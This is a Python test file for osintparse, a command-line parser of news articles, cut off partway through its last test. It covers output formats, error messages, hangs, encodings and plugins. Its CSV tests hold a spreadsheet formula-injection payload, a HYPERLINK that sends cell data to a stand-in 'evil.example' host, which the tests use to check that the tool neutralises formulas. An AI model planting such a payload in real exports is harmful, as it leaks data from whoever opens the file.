"""The command line: formats, stdin, errors with one clear line and non-zero exit."""

from __future__ import annotations

import contextlib
import io
import json
import os
import pathlib
import subprocess
import sys
from collections.abc import Iterator
from typing import Any

import pytest

import osintparse
from osintparse.cli import main
from tests.conftest import ROOT, SEED_PATH


def run_process(
    *args: str, stdin: bytes | None = None, cwd: pathlib.Path | None = None
) -> subprocess.CompletedProcess[bytes]:
    """``python -m osintparse ARGS`` in a child process: for what only a real process
    shows (the entry point, stdout's encoding, pipes, signals, hangs)."""
    return subprocess.run(
        [sys.executable, "-m", "osintparse", *args],
        input=stdin,
        capture_output=True,
        timeout=120,
        check=False,
        cwd=cwd,
    )


def run(
    *args: str, stdin: bytes | None = None, cwd: pathlib.Path | None = None
) -> subprocess.CompletedProcess[bytes]:
    """The command line in this process, with stdin, stdout and stderr as bytes.

    The same as :func:`run_process` for everything the tests below read, without a
    child's start-up and first parse (3 s each) per call.
    """
    out, err = io.BytesIO(), io.BytesIO()
    streams = [io.TextIOWrapper(b, encoding="utf-8", write_through=True) for b in (out, err)]
    inp = io.TextIOWrapper(io.BytesIO(stdin or b""), encoding="utf-8")
    saved = sys.stdin, sys.stdout, sys.stderr
    sys.stdin, sys.stdout, sys.stderr = inp, streams[0], streams[1]
    try:
        with contextlib.chdir(cwd if cwd is not None else pathlib.Path.cwd()):
            code = main(list(args))
    except SystemExit as exit_:  # argparse: --help, usage errors
        code = exit_.code if isinstance(exit_.code, int) else 2
    finally:
        sys.stdin, sys.stdout, sys.stderr = saved
    return subprocess.CompletedProcess(["osintparse", *args], code, out.getvalue(), err.getvalue())


def test_text_outline_of_seed() -> None:
    r = run_process(str(SEED_PATH))  # the entry point itself, in a child
    assert r.returncode == 0, r.stderr
    out = r.stdout.decode()
    assert out.startswith("# Pyongyang à la frontière")
    assert "## La Corée du Nord et la Russie : coopération et projets militaires" in out
    assert "Retour en haut" not in out


def test_json_and_jsonl(tmp_path: pathlib.Path) -> None:
    r = run(str(SEED_PATH), "--format", "json", "--published", "2025-05-01")
    assert r.returncode == 0
    data = json.loads(r.stdout)
    assert data["lang"] == "fr"
    assert data["published"] == "2025-05-01"
    other = tmp_path / "b.txt"
    other.write_text("Title\n\nThe army said 300 soldiers left. They went home.", encoding="utf-8")
    r = run(str(SEED_PATH), str(other), "--format", "jsonl")
    lines = r.stdout.decode().splitlines()
    assert [json.loads(x)["lang"] for x in lines] == ["fr", "en"]


def test_stdin() -> None:
    r = run("-", "--lang", "fr", "--format", "jsonl", stdin=b"Un texte. Deux.")
    assert r.returncode == 0
    assert len(json.loads(r.stdout)["sentences"]) == 2


def test_missing_file_and_bad_bytes(tmp_path: pathlib.Path) -> None:
    bad = tmp_path / "latin1.txt"
    bad.write_bytes("Séoul a déclaré".encode("latin-1"))
    binary = tmp_path / "x.bin"
    binary.write_bytes(b"\x00\x01\x02PNG")
    r = run(
        str(tmp_path / "missing.txt"), str(bad), str(binary), str(SEED_PATH), "--format", "jsonl"
    )
    assert r.returncode == 1
    err = r.stderr.decode().strip().splitlines()
    assert len(err) == 3
    assert "missing.txt" in err[0]
    assert "cannot read" in err[0]
    assert "latin1.txt" in err[1]
    assert "UTF-8" in err[1]
    assert "x.bin" in err[2]
    assert "binary" in err[2]
    assert len(r.stdout.decode().splitlines()) == 1  # the good file still parsed


@pytest.mark.parametrize(
    ("args", "needle"),
    [(["--published", "soon"], "ISO 8601"), (["--lang", "xx"], "not supported")],
)
def test_bad_options_exit_2(args: list[str], needle: str) -> None:
    r = run(str(SEED_PATH), *args)
    assert r.returncode == 2
    assert needle in r.stderr.decode()
    assert r.stderr.decode().count("error") == 1


def test_main_in_process(capsys: pytest.CaptureFixture[str]) -> None:
    assert main([str(SEED_PATH), "--format", "text"]) == 0
    assert "lang: fr" in capsys.readouterr().out


def test_csv_one_row_per_claim_with_the_table_columns(seed: osintparse.Article) -> None:
    import csv

    from osintparse import tables

    r = run(str(SEED_PATH), "--format", "csv")
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout.decode("utf-8"))))
    assert list(rows[0]) == list(tables.columns("claims"))
    assert len(rows) == len(seed.claims)
    for row, item in zip(rows, seed.claims, strict=True):
        assert row["article_id"] == str(SEED_PATH)
        assert row["layer"] == "claims"
        assert seed.text[int(row["start"]) : int(row["end"])] == row["text"] == item.text
    headings = {row["section"] for row in rows}
    assert "La position de la Corée du Nord vis-à-vis de la Russie" in headings
    first = next(r for r in rows if "10 000" in r["text"])
    assert first["stance"] == "reported"
    assert "intelligence" in first["source_kinds"]
    assert first["figures"].startswith(">10 000 militaires")
    assert r.stderr == b""  # not a terminal, no --progress: no bar


def test_csv_of_another_layer_and_a_bad_layer() -> None:
    import csv

    r = run(str(SEED_PATH), "--format", "csv", "--layer", "dates")
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout.decode("utf-8"))))
    assert [(x["text"], x["value"], x["value_end"], x["precision"]) for x in rows] == [
        ("avril 2025", "2025-04-01", "2025-04-30", "month")
    ]
    bad = run(str(SEED_PATH), "--format", "csv", "--layer", "title")
    assert bad.returncode == 2
    assert b"--layer 'title' is not a layer" in bad.stderr


def test_progress_bar_on_request(tmp_path: pathlib.Path) -> None:
    other = tmp_path / "b.txt"
    other.write_text("Titre\n\nUne phrase.", encoding="utf-8")
    r = run(str(SEED_PATH), str(other), "--format", "jsonl", "--progress")
    assert r.returncode == 0
    assert len(r.stdout.decode().splitlines()) == 2
    assert "2/2" in r.stderr.decode()
    quiet = run(str(SEED_PATH), str(other), "--format", "jsonl", "--no-progress")
    assert quiet.stderr == b""


def test_progress_without_tqdm_on_a_terminal(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setitem(sys.modules, "tqdm", None)
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
    path = str(SEED_PATH)
    assert main([path, "missing.txt", path, "--format", "jsonl", "--progress"]) == 1
    err = capsys.readouterr().err
    assert "osintparse: 3/3 files" in err
    assert err.endswith("\n")
    # the error message is on its own line, never glued to the counter
    lines = err.split("\n")
    error = next(line for line in lines if "missing.txt" in line)
    assert error.startswith("osintparse: error: missing.txt")


def test_progress_line_per_file_when_not_a_terminal(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Without tqdm the counter printed "osintparse: 1/2 filesosintparse: 2/2 files"."""
    monkeypatch.setitem(sys.modules, "tqdm", None)
    path = str(SEED_PATH)
    assert main([path, "missing.txt", path, "--format", "jsonl", "--progress"]) == 1
    err = capsys.readouterr().err
    assert "\r" not in err
    assert err.splitlines() == [
        f"osintparse: [1/3] {path}",
        "osintparse: error: missing.txt: cannot read (No such file or directory); check the path",
        "osintparse: [2/3] missing.txt",
        f"osintparse: [3/3] {path}",
    ]


def _article_tree(root: pathlib.Path) -> tuple[list[pathlib.Path], list[pathlib.Path]]:
    """100 *.txt entries under root (nested), 6 of them bad; plus files to ignore."""
    seed = SEED_PATH.read_text(encoding="utf-8")
    good: list[pathlib.Path] = []
    for i in range(94):
        folder = root / f"batch{i % 3}" / ("deep" if i % 5 == 0 else "")
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / f"article{i:03d}.txt"
        if i % 2:
            text = seed[i * 40 : i * 40 + 1500]
        else:
            text = f"Title {i}\n\nThe ministry said {i} soldiers left. They went home."
        path.write_text(text if i != 7 else "", encoding="utf-8")  # one empty article
        good.append(path)
    latin1 = root / "batch0" / "latin1.txt"
    latin1.write_bytes("Séoul a déclaré".encode("latin-1"))
    binary = root / "batch1" / "binary.txt"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
    a_dir = root / "batch2" / "folder.txt"  # a directory named like an article: walked
    a_dir.mkdir()
    broken = root / "broken.txt"
    broken.symlink_to(root / "gone.txt")
    loop = root / "batch1" / "loop.txt"
    loop.symlink_to(loop)
    fifo = root / "batch2" / "fifo.txt"  # hung the command for ever
    os.mkfifo(fifo)
    zero = root / "batch2" / "zero.txt"  # raised MemoryError and lost the later files
    zero.symlink_to("/dev/zero")
    bad = [latin1, binary, broken, loop, fifo, zero]
    (root / "notes.md").write_text("not an article", encoding="utf-8")
    (root / "batch0" / "image.png").write_bytes(b"\x00\x01")
    return good, bad


def test_directory_of_100_files_with_bad_ones(tmp_path: pathlib.Path) -> None:
    good, bad = _article_tree(tmp_path)
    assert len(good) + len(bad) == 100
    r = run(str(tmp_path), "--format", "jsonl")
    assert r.returncode == 1
    lines = r.stdout.decode().splitlines()
    assert len(lines) == len(good)  # no output lost
    expected = sorted(good)
    texts = [json.loads(line)["text"] for line in lines]
    assert texts == [p.read_text(encoding="utf-8") for p in expected]  # sorted order
    err = r.stderr.decode().splitlines()
    assert len(err) == len(bad), err
    for path in bad:
        assert sum(str(path) in line for line in err) == 1, (path, err)
    assert all(line.startswith("osintparse: error: ") for line in err)
    assert "notes.md" not in r.stderr.decode() + r.stdout.decode()


def test_directory_json_and_text_formats(tmp_path: pathlib.Path) -> None:
    good, _ = _article_tree(tmp_path)
    r = run(str(tmp_path), "--format", "json", "--lang", "en")
    assert r.returncode == 1
    assert len(json.loads(r.stdout)) == len(good)
    r = run(str(tmp_path / "batch0"), "--format", "text")
    assert r.returncode == 1  # latin1.txt
    out = r.stdout.decode()
    first = sorted(p for p in good if tmp_path / "batch0" in p.parents)[0]
    assert f"== {first} ==" in out


def test_empty_directory_is_an_error(tmp_path: pathlib.Path) -> None:
    (tmp_path / "empty").mkdir()
    r = run(str(tmp_path / "empty"), str(SEED_PATH), "--format", "jsonl")
    assert r.returncode == 1
    assert "holds no *.txt, *.html or *.htm file" in r.stderr.decode()
    assert len(r.stdout.decode().splitlines()) == 1


def test_help_documents_directories() -> None:
    r = run("--help")
    assert "directory" in r.stdout.decode()
    assert "recursively" in r.stdout.decode()


def test_csv_cells_cannot_run_as_formulas(tmp_path: pathlib.Path) -> None:
    """Issue 17 item 4: a cell beginning with = + - @ tab or CR was written raw."""
    import csv

    from osintparse.tables import CSV_FORMULA_TRIGGERS

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
    lines = [evil, "+33 1 23 45 67 89 a appelé.", "-2+3 est un calcul.", "@SUM(A1) ici."]
    lines += ["\tTabulé au début.", "\rRetour chariot."]
    path = tmp_path / "@evil.txt"
    path.write_text("\n\n".join(lines), encoding="utf-8")
    r = run(str(path), "--format", "csv", "--layer", "paragraphs", "--lang", "fr")
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout.decode("utf-8"), newline="")))
    assert rows
    cells = [cell for row in rows for cell in row.values()]
    risky = [c for c in cells if c.startswith(CSV_FORMULA_TRIGGERS)]
    assert risky == []
    assert rows[0]["text"] == "'" + evil
    assert rows[1]["text"].startswith("'+33 1 23")
    for row in csv.DictReader(io.StringIO(run(str(path), "--format", "csv").stdout.decode())):
        assert not any(v.startswith(CSV_FORMULA_TRIGGERS) for v in row.values()), row


def test_csv_file_name_column_is_neutralised(tmp_path: pathlib.Path) -> None:
    import csv

    (tmp_path / "=cmd.txt").write_text("Titre\n\nUne phrase.", encoding="utf-8")
    r = run("=cmd.txt", "--format", "csv", "--lang", "fr", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout.decode())))
    assert rows
    assert {row["article_id"] for row in rows} == {"'=cmd.txt"}


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_quoted(first: str) -> None:
    from osintparse import tables

    row = tables.csv_row({"a": first + "1+1", "b": "ok", "n": -3, "x": -0.5, "none": None})
    assert row == {"a": "'" + first + "1+1", "b": "ok", "n": -3, "x": -0.5, "none": ""}


# -- issue 17 item 5: a command line that never hangs or loses work ------------------------


def _articles(root: pathlib.Path, n: int, text: str | None = None) -> list[pathlib.Path]:
    root.mkdir(parents=True, exist_ok=True)
    out = []
    for i in range(n):
        path = root / f"a{i:03d}.txt"
        path.write_text(text or f"Titre {i}\n\nLe ministère a dit que {i} soldats sont partis.")
        out.append(path)
    return out


def test_fifo_and_device_in_a_directory_are_skipped_without_hanging(
    tmp_path: pathlib.Path,
) -> None:
    _articles(tmp_path, 2)
    os.mkfifo(tmp_path / "a000-fifo.txt")
    (tmp_path / "a000-zero.txt").symlink_to("/dev/zero")
    (tmp_path / "a000-null.txt").symlink_to("/dev/null")
    r = run_process(str(tmp_path), "--format", "jsonl", "--lang", "fr")  # timeout=120: a hang fails
    assert r.returncode == 1
    assert len(r.stdout.decode().splitlines()) == 2
    err = r.stderr.decode().splitlines()
    assert sorted(err) == [
        f"osintparse: error: {tmp_path}/a000-fifo.txt: a FIFO (named pipe), not a regular "
        "file; skipped (only regular files are read from directories)",
        f"osintparse: error: {tmp_path}/a000-null.txt: a device, not a regular file; skipped "
        "(only regular files are read from directories)",
        f"osintparse: error: {tmp_path}/a000-zero.txt: a device, not a regular file; skipped "
        "(only regular files are read from directories)",
    ]
    assert "MemoryError" not in r.stderr.decode()


def test_max_bytes_limits_every_input(tmp_path: pathlib.Path) -> None:
    big = tmp_path / "big.txt"
    big.write_text("Une phrase assez longue. " * 100, encoding="utf-8")  # 2 500 bytes
    small = tmp_path / "small.txt"
    small.write_text("Une phrase.", encoding="utf-8")
    r = run(str(big), str(small), "--format", "jsonl", "--max-bytes", "1K")
    assert r.returncode == 1
    assert len(r.stdout.splitlines()) == 1
    assert r.stderr.decode() == (
        f"osintparse: error: {big}: 2,500 bytes, larger than the limit of 1,000 bytes "
        "(--max-bytes); split the file, or raise the limit (e.g. --max-bytes 50M, or 0 for no "
        "limit)\n"
    )
    assert run(str(big), "--format", "jsonl", "--max-bytes", "0").returncode == 0
    assert run(str(big), "--format", "jsonl", "--max-bytes", "2500").returncode == 0
    r = run("/dev/zero", "--format", "jsonl")  # an explicit device: bounded by the default
    assert r.returncode == 1
    assert "/dev/zero: larger than the limit of 10,000,000 bytes" in r.stderr.decode()
    r = run("-", "--max-bytes", "10", stdin=b"x" * 11)
    assert r.returncode == 1
    assert "<stdin>: larger than the limit of 10 bytes" in r.stderr.decode()
    bad = run(str(small), "--max-bytes", "lots")
    assert bad.returncode == 2
    assert "'lots' is not a size" in bad.stderr.decode()


def test_unreadable_directory_is_reported_with_status_1(
    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """An unreadable subdirectory was skipped silently, with exit status 0."""
    _articles(tmp_path, 2)
    locked = tmp_path / "locked"
    _articles(locked, 1)
    real_scandir = os.scandir

    def scandir(path: Any) -> Any:
        if os.fspath(path) == str(locked):
            raise PermissionError(13, "Permission denied", str(locked))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    buf = io.StringIO()
    assert main([str(tmp_path), "--format", "jsonl", "--lang", "fr"], out=buf) == 1
    assert len(buf.getvalue().splitlines()) == 2
    assert capsys.readouterr().err == (
        f"osintparse: error: {locked}: cannot read directory (Permission denied)\n"
    )


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every directory")
def test_unreadable_directory_for_real(tmp_path: pathlib.Path) -> None:
    _articles(tmp_path, 1)
    locked = tmp_path / "locked"
    _articles(locked, 1)
    locked.chmod(0)
    try:
        r = run(str(tmp_path), "--format", "jsonl", "--lang", "fr")
    finally:
        locked.chmod(0o755)
    assert r.returncode == 1
    assert "cannot read directory" in r.stderr.decode()


def test_non_utf8_file_names_under_a_strict_utf8_stdout(tmp_path: pathlib.Path) -> None:
    """A non-UTF-8 file name crashed csv, text and compare output (desktop locales)."""
    folder = tmp_path / "in"
    folder.mkdir()
    raw = os.fsencode(folder) + b"/caf\xe9 10.txt"
    with open(raw, "wb") as fh:
        fh.write(b"Titre\n\nSelon l'AFP, 300 soldats sont partis.")
    odd = folder / "line\nbreak\u202e.txt"
    odd.write_text("Titre\n\nSelon Reuters, 200 soldats sont partis.", encoding="utf-8")
    env = {**os.environ, "PYTHONIOENCODING": "utf-8:strict", "LC_ALL": "C.UTF-8"}
    child = subprocess.run(
        [sys.executable, "-m", "osintparse", str(folder), "--lang", "fr", "--format", "text"],
        capture_output=True,
        env=env,
        timeout=120,
        check=False,
    )
    assert child.returncode == 0, child.stderr
    assert "caf\\xe9 10.txt" in child.stdout.decode("utf-8")  # strictly valid UTF-8
    # run() writes to a strict UTF-8 stdout too: the other formats in this process.
    for fmt in ("text", "csv", "jsonl", "json"):
        r = run(str(folder), "--lang", "fr", "--format", fmt)
        assert r.returncode == 0, (fmt, r.stderr)
        out = r.stdout.decode("utf-8")
        if fmt in ("text", "csv"):
            assert "caf\\xe9 10.txt" in out
            assert "line\\x0abreak\\u202e.txt" in out
    r = run("compare", str(folder), "--lang", "fr", "--all")
    assert r.returncode == 0, r.stderr
    assert "caf\\xe9 10.txt" in r.stdout.decode("utf-8")


@pytest.mark.parametrize("fmt", ["jsonl", "text", "csv", "json"])
def test_closed_pipe_exits_quietly(tmp_path: pathlib.Path, fmt: str) -> None:
    """`| head -1` printed a BrokenPipeError traceback and exited 1."""
    _articles(tmp_path, 40)
    p = subprocess.Popen(
        [sys.executable, "-m", "osintparse", str(tmp_path), "--lang", "fr", "--format", fmt],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert p.stdout is not None
    assert p.stderr is not None
    p.stdout.readline()
    p.stdout.close()
    err = p.stderr.read().decode()
    assert p.wait(timeout=120) == 141
    assert err == ""


def test_interrupt_leaves_valid_json(tmp_path: pathlib.Path) -> None:
    """SIGINT during --format json lost all finished work."""
    import signal
    import threading
    import time

    _articles(tmp_path, 60, SEED_PATH.read_text(encoding="utf-8"))
    p = subprocess.Popen(
        [sys.executable, "-m", "osintparse", str(tmp_path), "--format", "json"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    assert p.stdout is not None
    chunks: list[bytes] = []
    reader = threading.Thread(target=lambda: chunks.extend(iter(p.stdout.read1, b"")))
    reader.start()
    deadline = time.monotonic() + 120
    while b'"schema_version"' not in b"".join(chunks) and time.monotonic() < deadline:
        time.sleep(0.05)
    p.send_signal(signal.SIGINT)
    status = p.wait(timeout=120)
    reader.join(timeout=30)
    assert p.stderr is not None
    err = p.stderr.read().decode()
    assert status == 130, err
    data = json.loads(b"".join(chunks))
    assert 1 <= len(data) < 60
    assert all(d["text"] == SEED_PATH.read_text(encoding="utf-8") for d in data)
    assert f"the output holds the {len(data)} article(s) finished" in err
    assert "Traceback" not in err


def test_json_of_several_files_is_streamed(
    tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]
) -> None:
    seen: list[str] = []

    class Spy(io.StringIO):
        def flush(self) -> None:
            seen.append(self.getvalue())

    _articles(tmp_path, 3)
    out = Spy()
    assert main([str(tmp_path), "--format", "json", "--lang", "fr"], out=out) == 0
    data = json.loads(out.getvalue())
    assert [d["text"].split("\n")[0] for d in data] == ["Titre 0", "Titre 1", "Titre 2"]
    assert seen[0] == "["
    assert seen[1].count('"schema_version"') == 1  # the first article, written at once
    assert json.loads(main_json([str(tmp_path / "a000.txt")]))["lang"] == "fr"  # one object
    assert json.loads(main_json([str(tmp_path / "none"), "--lang", "fr"]) or "[]") == []


def main_json(args: list[str]) -> str:
    buf = io.StringIO()
    main([*args, "--format", "json"], out=buf)
    return buf.getvalue()


def _many_sections(n: int) -> osintparse.Article:
    """An article of n sections, each a heading and one claim, built directly."""
    from osintparse.model import Claim, Paragraph, Quantity, Section, Sentence

    unit = "Titre {:06d}\n\nIl y a 300 soldats.\n\n"
    text = "".join(unit.format(i) for i in range(n))
    sections, paragraphs, sentences, claims, figures = [], [], [], [], []
    for i in range(n):
        s = i * len(unit.format(0))
        h_end, b_start = s + 12, s + 14
        b_end = b_start + 19
        sections.append(
            Section(
                start=s,
                end=b_end,
                text=text[s:b_end],
                heading=text[s:h_end],
                heading_start=s,
                heading_end=h_end,
            )
        )
        paragraphs += [
            Paragraph(start=s, end=h_end, text=text[s:h_end], kind="heading", section=i),
            Paragraph(start=b_start, end=b_end, text=text[b_start:b_end], kind="body", section=i),
        ]
        sentences.append(
            Sentence(
                start=b_start, end=b_end, text=text[b_start:b_end], paragraph=2 * i + 1, section=i
            )
        )
        q = Quantity(
            start=b_start + 7, end=b_start + 18, text=text[b_start + 7 : b_start + 18], value=300
        )
        figures.append(q)
        claims.append(
            Claim(
                start=b_start,
                end=b_end,
                text=text[b_start:b_end],
                section=text[s:h_end],
                quantities=[q],
            )
        )
    return osintparse.Article(
        text=text,
        lang="fr",
        sections=sections,
        paragraphs=paragraphs,
        sentences=sentences,
        claims=claims,
        quantities=figures,
    )


@pytest.mark.parametrize("claims", [True, False])
def test_outline_and_csv_are_linear_in_sections(claims: bool) -> None:
    """_section_of scanned every section for every claim: 400 KB took 11 s."""
    import time

    import attrs

    from osintparse import tables
    from osintparse.cli import format_outline

    def cost(n: int) -> float:
        a = _many_sections(n)
        if not claims:
            a = attrs.evolve(a, claims=())
        best = float("inf")
        for _ in range(2):
            t = time.perf_counter()
            out = format_outline(a)
            rows = [tables.csv_row(r) for r in tables.rows(a, "claims" if claims else "sentences")]
            best = min(best, time.perf_counter() - t)
        assert out.count("## Titre") == n
        assert len(rows) == n
        return best

    small, large = cost(1_000), cost(10_000)
    assert large < 10 * 3.0 * small, (small, large)  # quadratic: 100x


# -- issue 19 item 3: HTML, compare formats, version, encodings, wording, legend ------------


def test_html_files_go_through_parse_html(tmp_path: pathlib.Path) -> None:
    page = ROOT / "tests" / "data" / "page_fr.html"
    r = run(str(page), "--format", "json")
    assert r.returncode == 0, r.stderr
    data = json.loads(r.stdout)
    assert data["title"] == "Séoul : 10 000 soldats nord-coréens en Russie"
    assert data["published"] == "2025-04-28"
    assert data["author"] == "Jeanne Martin"
    assert "<" not in data["text"]
    r = run(str(page), "--format", "json", "--published", "2025-05-02")
    assert json.loads(r.stdout)["published"] == "2025-05-02"
    saved = tmp_path / "page.dat"
    saved.write_bytes(page.read_bytes())
    raw = json.loads(run(str(saved), "--format", "json").stdout)
    assert "<html" in raw["text"]  # not a web page by its name: parsed as text
    forced = json.loads(run(str(saved), "--format", "json", "--html").stdout)
    assert forced["text"] == data["text"]
    piped = run("-", "--html", "--format", "json", stdin=page.read_bytes())
    assert json.loads(piped.stdout)["title"] == data["title"]
    folder = tmp_path / "pages"
    folder.mkdir()
    (folder / "b.htm").write_bytes(page.read_bytes())
    (folder / "a.txt").write_text("Titre\n\nUne phrase.", encoding="utf-8")
    both = run(str(folder), "--format", "jsonl")
    assert [json.loads(x)["title"] for x in both.stdout.splitlines()] == [
        "Titre",
        data["title"],
    ]


def test_compare_formats(tmp_path: pathlib.Path) -> None:
    import csv

    a = tmp_path / "=a.txt"
    a.write_text("Titre\n\nSelon Séoul, plus de 10 000 soldats nord-coréens sont là.")
    b = tmp_path / "b.txt"
    b.write_text("Titre\n\nSelon Kiev, 3 000 soldats nord-coréens sont là.")
    text = run("compare", str(a), str(b), "--lang", "fr")
    assert text.returncode == 0, text.stderr
    assert "conflict" in text.stdout.decode()
    js = run("compare", str(a), str(b), "--lang", "fr", "--format", "json")
    groups = json.loads(js.stdout)
    group = next(g for g in groups if len(g["figures"]) == 2)
    assert group["conflicts"] == [[0, 1]]
    assert group["agreement"] is False
    first = group["figures"][0]
    assert first["article"] == str(a)
    assert first["figure"] == ">10 000"
    assert first["midpoint"] == 10000
    assert first["high"] is None  # "more than 10 000": no upper bound (no Infinity in JSON)
    assert first["conflict"] is True
    rows = list(
        csv.DictReader(
            io.StringIO(
                run("compare", str(a), str(b), "--lang", "fr", "--format", "csv").stdout.decode()
            )
        )
    )
    assert {r["article"] for r in rows} == {str(a), str(b)}  # /tmp/...: nothing to quote
    cwd_rows = list(
        csv.DictReader(
            io.StringIO(
                run(
                    "compare", "=a.txt", "b.txt", "--lang", "fr", "--format", "csv", cwd=tmp_path
                ).stdout.decode()
            )
        )
    )
    assert {r["article"] for r in cwd_rows} == {"'=a.txt", "b.txt"}
    assert next(r for r in cwd_rows if r["article"] == "'=a.txt")["high"] == ""


def test_version() -> None:
    r = run("--version")
    assert r.returncode == 0
    assert r.stdout.decode() == f"osintparse {osintparse.__version__}\n"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"])
def test_utf16_and_utf32_files_with_a_byte_order_mark(
    tmp_path: pathlib.Path, encoding: str
) -> None:
    """A UTF-16 file was reported as "binary data (NUL bytes)"."""
    import codecs

    text = "Titre\n\nSelon Séoul, 300 soldats sont arrivés."
    bom = {
        "utf-16-le": codecs.BOM_UTF16_LE,
        "utf-16-be": codecs.BOM_UTF16_BE,
        "utf-32-be": codecs.BOM_UTF32_BE,
    }.get(encoding, b"")
    path = tmp_path / "a.txt"
    path.write_bytes(bom + text.encode(encoding))
    r = run(str(path), "--format", "json")
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["text"] == text
    nobom = tmp_path / "b.txt"
    nobom.write_bytes(text.encode("utf-16-le"))
    r = run(str(nobom))
    assert r.returncode == 1
    assert "byte order mark" in r.stderr.decode()


def test_unsupported_language_uses_command_line_wording() -> None:
    r = run(str(SEED_PATH), "--lang", "de")
    assert r.returncode == 2
    err = r.stderr.decode()
    assert err.startswith("osintparse: error: --lang 'de' is not supported; use one of: ")
    assert "leave --lang out" in err
    assert "lang=None" not in err


def test_outline_has_a_legend_under_the_title(seed: osintparse.Article) -> None:
    from osintparse.cli import format_outline

    lines = format_outline(seed).splitlines()
    assert lines[0].startswith("# Pyongyang")
    assert lines[2].startswith("(each claim: [stance, certainty]")
    assert all(s.value in lines[2] for s in osintparse.Stance)
    assert "from 0 to 1" in lines[2]


# -- issue 19 item 2: plugins on the command line ------------------------------------------


class _Boom:
    name = "boom"
    produces = ("boom",)
    requires = ("sentences",)

    def __call__(self, doc: osintparse.Document) -> dict[str, Any]:
        from osintparse.model import Mention

        i = doc.text.find("F-16")
        found = () if i < 0 else (Mention(start=i, end=i + 4, text="F-16", label="weapon"),)
        return {"boom": found}


@pytest.fixture
def boom() -> Iterator[None]:
    osintparse.register_extractor("boom", _Boom)
    yield
    osintparse.unregister_extractor("boom")


def test_with_and_extractors_options(tmp_path: pathlib.Path, boom: None) -> None:
    path = tmp_path / "a.txt"
    path.write_text("Titre\n\nKiev a reçu des F-16 selon l'AFP.", encoding="utf-8")
    buf = io.StringIO()
    assert main([str(path), "--with", "boom", "--format", "json", "--lang", "fr"], out=buf) == 0
    data = json.loads(buf.getvalue())
    assert [m["text"] for m in data["extras"]["boom"]] == ["F-16"]
    assert data["claims"]  # the default pipeline ran too
    buf = io.StringIO()
    args = [str(path), "--extractors", "structure,boom", "--format", "csv", "--layer", "boom"]
    assert main([*args, "--lang", "fr"], out=buf) == 0
    assert buf.getvalue().splitlines()[1].startswith(f"{path},boom,")
    buf = io.StringIO()
    assert main([str(path), "--extractors", "structure", "--format", "json"], out=buf) == 0
    assert json.loads(buf.getvalue())["claims"] == []


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["--with", "nope"], "no extractor named 'nope'; registered extractors: "),
        (["--extractors", "claims,structure"], "'claims' requires sentences"),
        (["--format", "csv", "--layer", "title"], "--layer 'title' is not a layer"),
        (["--format", "csv", "--layer", "weapons"], "--layer 'weapons' is not a layer"),
    ],
)
def test_bad_pipeline_options_exit_2(
    args: list[str], needle: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([str(SEED_PATH), *args]) == 2
    assert needle in capsys.readouterr().err


def test_extractors_command(boom: None, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["extractors"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].split() == ["NAME", "PRODUCES", "REQUIRES", "USES", "DEFAULT", "FROM"]
    claims = next(line for line in lines if line.startswith("claims "))
    assert "sentences, sections" in claims
    assert "attributions, hedges, quantities, dates" in claims
    assert f"osintparse {osintparse.__version__} (built in)" in claims
    mine = next(line for line in lines if line.startswith("boom "))
    assert mine.split()[:4] == ["boom", "boom", "sentences", "-"]
    assert mine.endswith("registered at run time")
    assert main(["extractors", "--format", "json"]) == 0
    infos = {i["name"]: i for i in json.loads(capsys.readouterr().out)}
    assert infos["dates"]["default"] is True
    assert infos["boom"]["default"] is False


def test_jsonl_writes_each_article_before_parsing_the_next(
    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Incremental: an article's line is out (flushed) before the next file is read."""
    from osintparse import cli

    events: list[str] = []
    parse_one = cli._parse_one

    def spy_parse(item: Any, data: bytes, args: Any, pipeline: Any) -> osintparse.Article:
        events.append(f"parse {pathlib.Path(item.path).name}")
        return parse_one(item, data, args, pipeline)

    class Spy(io.StringIO):
        def flush(self) -> None:
            events.append(f"lines {self.getvalue().count(chr(10))}")

    monkeypatch.setattr(cli, "_parse_one", spy_parse)
    _articles(tmp_path, 3)
    out = Spy()
    assert main([str(tmp_path), "--format", "jsonl", "--lang", "fr"], out=out) == 0
    assert events == [
        "parse a000.txt",
        "lines 1",
        "parse a001.txt",
        "lines 2",
        "parse a002.txt",
        "lines 3",
    ]


def test_jsonl_writes_a_long_article_in_pieces(tmp_path: pathlib.Path) -> None:
    writes: list[str] = []

    class Spy(io.StringIO):
        def write(self, s: str) -> int:
            writes.append(s)
            return super().write(s)

    body = "Selon Kyiv, 300 soldats sont partis hier. " * 20
    text = "Titre\n\n" + "".join(f"Partie {i}\n\n{body}\n\n" for i in range(200))
    path = tmp_path / "long.txt"
    path.write_text(text, encoding="utf-8")
    out = Spy()
